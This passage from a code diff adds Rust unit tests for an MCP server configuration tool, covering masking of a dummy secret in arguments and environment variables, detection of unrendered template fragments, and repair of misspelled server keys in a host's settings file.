+                "sk-123".to_string(),
+            )])),
+            timeout: None,
+            auto_approve: None,
+            other: HashMap::new(),
+        };
+
+        let masked = server.with_values_masked(&["sk-123".to_string(), String::new()]);
+        assert_eq!(
+            masked.args.unwrap(),
+            ["--auth=********".to_string(), "--region".to_string()]
+        );
+        assert_eq!(masked.env.unwrap()["CREDENTIAL"], "********");
+        assert_eq!(masked.command, server.command);
+    }
+
+    #[test]
+    fn test_unrendered_fragments() {
+        let server = McpServer {
+            command: Some("npx".to_string()),
+            args: Some(vec![
+                "server".to_string(),
+                "--mode={{#if readonly}}ro{{/if}}".to_string(),
+                "--root {{root".to_string(),
+            ]),
+            url: None,
+            env: Some(HashMap::from([
+                ("READONLY".to_string(), "{{readonly}}".to_string()),
+                ("PLAIN".to_string(), "value".to_string()),
+                ("JSON".to_string(), r#"{"a": {"b": 1}}"#.to_string()),
+            ])),
+            timeout: None,
+            auto_approve: None,
+            other: HashMap::new(),
+        };
+
+        assert_eq!(
+            server.unrendered_fragments(),
+            [
+                ("argument 2".to_string(), "{{#if readonly}}".to_string()),
+                ("argument 3".to_string(), "{{root".to_string()),
+                ("env var 'READONLY'".to_string(), "{{readonly}}".to_string()),
+            ]
+        );
+        assert!(McpServer {
+            env: None,
+            args: Some(vec![
+                "{}".to_string(),
+                "a{b}c}}".to_string(),
+                "{{ }}".to_string()
+            ]),
+            ..server
+        }
+        .unrendered_fragments()
+        .is_empty());
+    }
+
+    #[test]
+    fn test_repair_servers() {
+        let root = serde_json::json!({ "MCP-Servers": {}, "mcp_servers": {} });
+        assert_eq!(
+            misspelled_servers_keys(root.as_object().unwrap()),
+            ["MCP-Servers", "mcp_servers"]
+        );
+
+        let mut value = serde_json::json!({
+            "theme": "dark",
+            "mcp_servers": { "a": { "command": "a" } },
+            "mcpServers": { "b": { "command": "b" } }
+        });
+        assert_eq!(
+            repair_servers(&mut value, &Host::Claude).unwrap(),
+            ["merged 1 server(s) from 'mcp_servers' into 'mcpServers'"]
+        );
+        let keys: Vec<&String> = value.as_object().unwrap().keys().collect();
+        assert_eq!(keys, ["mcpServers", "theme"]);
+        assert!(value["mcpServers"].get("a").is_some() && value["mcpServers"].get("b").is_some());
+
+        let mut clash = serde_json::json!({
+            "mcp_servers": { "a": {} },
+            "mcpServers": { "a": {} }
+        });
+        assert!(repair_servers(&mut clash, &Host::Claude)
+            .unwrap_err()
+            .to_string()
+            .contains("'a'"));
+
+        let mut empty = serde_json::json!({ "mcpServers": [] });
+        assert_eq!(repair_servers(&mut empty, &Host::Claude).unwrap().len(), 1);
+        assert_eq!(empty["mcpServers"], serde_json::json!({}));
+        assert!(repair_servers(&mut empty, &Host::Claude)
+            .unwrap()
+            .is_empty());
+    }
 }